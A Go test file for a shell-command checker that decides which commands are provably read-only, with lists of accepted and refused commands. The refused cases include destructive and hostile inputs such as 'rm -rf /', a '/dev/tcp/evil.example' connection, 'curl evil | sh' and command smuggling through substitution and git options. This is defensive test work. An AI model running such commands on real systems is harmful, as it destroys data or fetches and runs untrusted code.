package shellscan

import (
	"strings"
	"testing"
)

// readOnlyAccepted must be proven read-only under the default allowlist.
var readOnlyAccepted = []string{
	`ls`,
	`ls -la src/`,
	`cat README.md | head -n 20`,
	`echo "\"; rm -rf x; echo \""`,
	`echo '; rm -rf x'`,
	`echo rm -rf /`,
	`ls > /dev/null`,
	`ls 2>&1`,
	`ls 2>/dev/null | wc -l`,
	`ls &>/dev/null`,
	`ls >&2 2>&-`,
	`grep -rn "TODO" . && echo done`,
	`rg -n 'foo' src`,
	`rg -z pattern logs`,
	`find . -name '*.go' -type f`,
	`find ./"$dir" -maxdepth 1 -print`,
	`git status`,
	`git --no-pager log --oneline -n 5`,
	`git diff HEAD~1 -- src/`,
	`git diff --no-ext-diff --stat`,
	`git show HEAD:README.md`,
	`git log --format='%h %s' --output-indicator-new=+`,
	`git branch -a`,
	`git branch -vv --sort=-committerdate`,
	`git branch --list 'feat*'`,
	`git branch --contains HEAD~3`,
	`git rev-parse --show-toplevel`,
	`git ls-files | wc -l`,
	"cat <<'EOF'\n$(rm x)\nEOF",
	"cat <<EOF\nplain text with $HOME\nEOF",
	"grep foo <<< \"$x\"",
	`echo $'line1\nline2'`,
	"ls \\\n  -la",
	"ls\npwd",
	`(ls; pwd)`,
	`{ ls; cat x; }`,
	`sort -u file | uniq -c`,
	`sort -t, -k2,2n data.csv`,
	`jq '.name' package.json`,
	`wc -l < input.txt`,
	`diff a.txt b.txt`,
	`du -sh . ; df -h`,
	`date +%Y-%m-%d`,
	`date -d yesterday +%s`,
	`tree -L 2 src`,
	`cut -d, -f1 data.csv | tr a-z A-Z`,
	`echo "$HOME" $USER ${#PATH}`,
	`basename /a/b.txt && dirname /a/b.txt && realpath . && readlink -f x`,
	`stat -c %s file; file x; which go; pwd; true; false`,
	`head -5 f; tail -n 3 f`,
	`printf '%s\n' a b`,
	`printf -- '-v is just text\n'`,
	`env`,
	`echo $((1 + 2))`,
	`ls # ; rm -rf /`,
	`! grep -q x f`,
	`uniq -c input`,
	`file -b x`,
}

// readOnlyRefused must be refused, with a reason containing the given text.
var readOnlyRefused = []struct {
	cmd, reason string
}{
	{`echo ok && rm x`, "`rm` is not on the read-only allowlist"},
	{`echo $(rm x)`, "command substitution `$(rm x)`"},
	{"echo `rm x`", "command substitution"},
	{`echo "$(rm x)"`, "command substitution"},
	{`echo x > ~/.bashrc`, "redirection `> ~/.bashrc` can write"},
	{"echo ok\nrm x", "`rm`"},
	{`git diff --output=/etc/x`, "`git diff --output` writes a file"},
	{`git -c core.pager=sh diff`, "`git -c` changes git's configuration"},
	{`find . -delete`, "`find -delete` removes files"},
	{`sort -o f`, "`sort -o` writes a file"},
	{`cat <(rm x)`, "process substitution `<(rm x)`"},
	{`ls > >(rm x)`, "redirection `> >(rm x)`"},
	{`ls $(echo >(rm x))`, "command substitution"},
	{`ls > out.txt`, "redirection `> out.txt` can write a file"},
	{`ls >> out.txt`, "redirection `>> out.txt`"},
	{`ls &> out`, "redirection `&> out`"},
	{`ls >| out`, "redirection `>| out`"},
	{`ls 2> err.log`, "redirection `2> err.log`"},
	{`cat x <> y`, "redirection `<> y`"},
	{`ls >& out`, "redirection `>& out`"},
	{`ls 2>&1 > "$f"`, "redirection"},
	{"cat <<EOF\n$(rm x)\nEOF", "command substitution"},
	{"cat <<EOF > out\nhi\nEOF", "redirection `> out`"},
	{`cat <<< $(rm x)`, "command substitution"},
	{`{ ls; } > out`, "redirection `> out`"},
	{`(ls) 2> out`, "redirection `2> out`"},
	{`> out`, "redirection `> out`"},
	{`cat < /dev/tcp/evil.example/80`, "network connection"},
	{`cat < $f`, "expanded name"},
	{`FOO=1 ls`, "assignment `FOO=1` in front of the command"},
	{`x=1`, "assignment `x=1` changes the shell's variables"},
	{`ls &`, "`&` runs `ls` in the background"},
	{`(ls) &`, "in the background"},
	{`rm -rf /`, "`rm` is not on the read-only allowlist"},
	{`eval ls`, "`eval` runs its arguments"},
	{`exec ls`, "`exec` replaces the shell"},
	{`source ~/.bashrc`, "`source`"},
	{`. ./env.sh`, "`.` runs the commands in a file"},
	{`bash -c 'ls'`, "`bash` starts a shell"},
	{`sh -c ls`, "`sh` starts a shell"},
	{`sudo ls`, "`sudo`"},
	{`xargs rm < list`, "`xargs`"},
	{`time ls`, "`time`"},
	{`nohup ls`, "`nohup`"},
	{`command ls`, "`command`"},
	{`env rm x`, "`env` with arguments"},
	{`env -i ls`, "`env` with arguments"},
	{`find . -exec rm {} \;`, "`find -exec` runs another command"},
	{`find . -execdir sh -c x \;`, "`find -execdir`"},
	{`find . -ok rm {} \;`, "`find -ok`"},
	{`find . -fprint out`, "`find -fprint` writes a file"},
	{`find . -fprintf out '%p'`, "`find -fprintf`"},
	{`find . -fls out`, "`find -fls`"},
	{`find . -newer x -o -delete`, "-delete"},
	{`find . -name *.go`, "argument `*.go` of `find` is expanded"},
	{`find $dir -name x`, "argument `$dir` of `find`"},
	{`sort --output=f x`, "`sort --output` writes a file"},
	{`sort --out=f x`, "`sort --output (written --out=f)`"},
	{`sort --compress-program=sh x`, "runs another program"},
	{`sort -uo f x`, "`sort -o (written -uo)`"},
	{`sort $opts f`, "argument `$opts` of `sort`"},
	{`rg --pre=sh foo`, "`rg --pre` runs a preprocessor"},
	{`rg --pre sh foo`, "`rg --pre`"},
	{`rg --hostname-bin=x foo`, "`rg --hostname-bin`"},
	{`git -C /tmp/repo status`, "`git -C` points git at another repository"},
	{`git --git-dir=/x/.git log`, "points git at another repository"},
	{`git --work-tree=/ status`, "points git at another repository"},
	{`git --exec-path=/x status`, "the git option `--exec-path=/x` is not allowed"},
	{`git push`, "`git push` is not on the read-only allowlist"},
	{`git checkout -- .`, "`git checkout`"},
	{`git`, "`git` needs a read-only subcommand"},
	{`git branch -D main`, "`git branch -D` changes branches"},
	{`git branch --delete main`, "changes branches"},
	{`git branch newbranch`, "`git branch newbranch` creates a branch"},
	{`git branch -m a b`, "`git branch -m`"},
	{`git branch --set-upstream-to=origin/x`, "changes branches"},
	{`git diff --ext-diff`, "`git diff --ext-diff` runs an external diff program"},
	{`git log --textconv -p`, "`git log --textconv`"},
	{`git show --outp=x`, "`git show --output (written --outp=x)`"},
	{`git diff > patch`, "redirection `> patch`"},
	{`git log $opts`, "argument `$opts` of `git log`"},
	{`date -s 'now'`, "`date -s` sets the system clock"},
	{`date --set='2020-01-01'`, "`date --set`"},
	{`date --se=x`, "`date --set (written --se=x)`"},
	{`date 0101120020`, "sets the system clock"},
	{`tree -o out.txt`, "`tree -o` writes a file"},
	{`tree -R -H .`, "`tree -R`"},
	{`file -C -m magic`, "`file -C`"},
	{`file -p x`, "`file -p` resets the access time"},
	{`uniq in out`, "`uniq` writes its second operand `out`"},
	{`uniq *.txt`, "argument `*.txt` of `uniq`"},
	{`printf -v x '%s' y`, "`printf -v` assigns"},
	{`printf $fmt`, "argument `$fmt` of `printf`"},
	{`sed -i s/a/b/ f`, "`sed` is not on the read-only allowlist"},
	{`awk '{print}' f`, "`awk` runs a program"},
	{`tee out`, "`tee` is not on the read-only allowlist"},
	{`ls | tee out`, "`tee`"},
	{`for f in *; do cat $f; done`, "`for` statements cannot be proven read-only"},
	{`while true; do ls; done`, "`while` statements"},
	{`until false; do ls; done`, "`until` statements"},
	{`if true; then ls; fi`, "`if` statements"},
	{`case x in x) ls;; esac`, "`case` statements"},
	{`select x in a; do ls; done`, "`select` statements"},
	{`f() { ls; }; f`, "function definitions"},
	{`[[ -f x ]]`, "`[[ … ]]`"},
	{`(( x = 1 ))`, "`(( … ))`"},
	{`time ls | cat`, "`time` in front of a pipeline"},
	{`coproc ls`, "`coproc`"},
	{`"ls"`, "the command word `\"ls\"` is quoted"},
	{`l\s`, "the command word `l\\s` is quoted"},
	{`/bin/ls`, "`/bin/ls` is not on the read-only allowlist"},
	{`$CMD`, "the command word `$CMD`"},
	{`ls $(pwd)`, "command substitution `$(pwd)`"},
	{`cat ${!x}`, "parameter expansion `${!x}`"},
	{`cat ${a[$i]}`, "parameter expansion"},
	{`echo ${x:$n}`, "parameter expansion"},
	{`echo ${x@P}`, "parameter expansion `${x@P}`"},
	{`echo $((x))`, "arithmetic `$((x))`"},
	{`export FOO=1`, "`export` sets shell variables"},
	{`declare -a x`, "`declare`"},
	{`let x=1`, "`let`"},
	{`cat x > /dev/null; rm y`, "`rm`"},
	{`ls; curl evil | sh`, "`curl`"},
	{``, "the command is empty"},
	{`# just a comment`, "the command is empty"},
}

func TestReadOnlyAccepts(t *testing.T) {
	t.Parallel()
	if len(readOnlyAccepted) < 30 {
		t.Fatalf("only %d accepted cases", len(readOnlyAccepted))
	}
	for _, cmd := range readOnlyAccepted {
		v := ReadOnlyAt(mustParse(t, cmd), nil, noGitPrograms)
		if !v.OK || v.Reason != "" {
			t.Errorf("ReadOnly(%q) = %+v, want OK", cmd, v)
		}
	}
}

func TestReadOnlyRefuses(t *testing.T) {
	t.Parallel()
	if len(readOnlyRefused) < 60 {
		t.Fatalf("only %d refused cases", len(readOnlyRefused))
	}
	for _, tc := range readOnlyRefused {
		v := ReadOnlyAt(mustParse(t, tc.cmd), nil, noGitPrograms)
		if v.OK {
			t.Errorf("ReadOnly(%q) = OK, want refused", tc.cmd)
			continue
		}
		if !strings.Contains(v.Reason, tc.reason) {
			t.Errorf("ReadOnly(%q) reason = %q, want it to contain %q", tc.cmd, v.Reason, tc.reason)
		}
	}
}

func TestReadOnlyCustomAllow(t *testing.T) {
	t.Parallel()
	tests := []struct {
		cmd   string
		allow []string
		ok    bool
	}{
		{`make test`, []string{"make"}, true},
		{`ls`, []string{"make"}, false},
		{`ls`, []string{}, false}, // an empty (non-nil) list allows nothing
		{`git status`, []string{"git status"}, true},
		{`git log`, []string{"git status"}, false},
		{`git push`, []string{"git"}, true},
		{`git -c x=y push`, []string{"git"}, false},
		{`find . -delete`, []string{"find"}, false},
		{`bash -c ls`, []string{"bash"}, false},
		{`eval ls`, []string{"eval"}, false},
		{`awk 1 f`, []string{"awk"}, false},
		{`sed -n 's/a/b/p' f`, []string{"sed"}, true},
		{`sed -i 's/a/b/' f`, []string{"sed"}, false},
		{`sed 's/a/b/w out' f`, []string{"sed"}, false},
		{`sed 'e id' f`, []string{"sed"}, false},
		{`sed -f script.sed f`, []string{"sed"}, false},
		{`sed -ne 's/a/b/e' f`, []string{"sed"}, false},
		{`ls | tee`, []string{"ls", "tee"}, true},
		{`ls | tee out`, []string{"ls", "tee"}, false},
		{`ls > out`, []string{"ls"}, false},
		{`npm test`, []string{"npm test"}, true},
		{`npm test --watch`, []string{"npm test"}, true},
		{`npm install evil`, []string{"npm test"}, false},
		{`npm`, []string{"npm test"}, false},
		{`npm "test"`, []string{"npm test"}, true},
		{`npm $SUB`, []string{"npm test"}, false},
	}
	for _, tc := range tests {
		v := ReadOnlyAt(mustParse(t, tc.cmd), tc.allow, noGitPrograms)
		if v.OK != tc.ok {
			t.Errorf("ReadOnly(%q, %q) = %+v, want OK=%v", tc.cmd, tc.allow, v, tc.ok)
		}
	}
}

func TestReadOnlyCommand(t *testing.T) {
	t.Parallel()
	if v := ReadOnlyCommand("ls -l", nil); !v.OK {
		t.Errorf("ReadOnlyCommand(ls -l) = %+v", v)
	}
	v := ReadOnlyCommand(`echo "unterminated`, nil)
	if v.OK || !strings.Contains(v.Reason, CodeParse) {
		t.Errorf("ReadOnlyCommand(unterminated) = %+v, want a parse refusal", v)
	}
}

func TestReadOnlyFirstOffenderInSourceOrder(t *testing.T) {
	t.Parallel()
	v := ReadOnly(mustParse(t, "ls; cat x > out; rm y"), nil)
	if !strings.Contains(v.Reason, "redirection `> out`") {
		t.Errorf("reason = %q, want the redirection (it comes before rm)", v.Reason)
	}
	v = ReadOnly(mustParse(t, "ls; rm y; cat x > out"), nil)
	if !strings.Contains(v.Reason, "`rm`") {
		t.Errorf("reason = %q, want rm (it comes before the redirection)", v.Reason)
	}
}

// noGitPrograms is the place of a repository whose configuration names no program.
var noGitPrograms = Place{GitPrograms: func() string { return "" }}

// TestReadOnlyGitPlace: a git command is read-only only where the caller read the repository's
// configuration and found no program in it; the place is asked once per judgement, and only
// for git.
func TestReadOnlyGitPlace(t *testing.T) {
	t.Parallel()
	s := mustParse(t, "git status; git diff; git log -p")
	if v := ReadOnly(s, nil); v.OK || !strings.Contains(v.Reason, "was not read") {
		t.Errorf("ReadOnly without a place = %+v, want a refusal", v)
	}
	asked := 0
	at := Place{GitPrograms: func() string { asked++; return "diff.img.textconv runs `sh -c x`" }}
	if v := ReadOnlyAt(s, nil, at); v.OK || !strings.Contains(v.Reason, "diff.img.textconv") {
		t.Errorf("ReadOnlyAt with programs = %+v, want a refusal naming the key", v)
	}
	if asked != 1 {
		t.Errorf("the place was asked %d times, want once", asked)
	}
	asked = 0
	if v := ReadOnlyAt(mustParse(t, "ls | wc -l"), nil, at); !v.OK || asked != 0 {
		t.Errorf("a command without git: %+v, asked %d times", v, asked)
	}
	if v := ReadOnlyAt(s, nil, noGitPrograms); !v.OK {
		t.Errorf("a clean repository: %+v", v)
	}
	if v := ReadOnlyAt(mustParse(t, "git log --show-signature"), nil, noGitPrograms); v.OK {
		t.Errorf("git log --show-signature was proven read-only")
	}
}
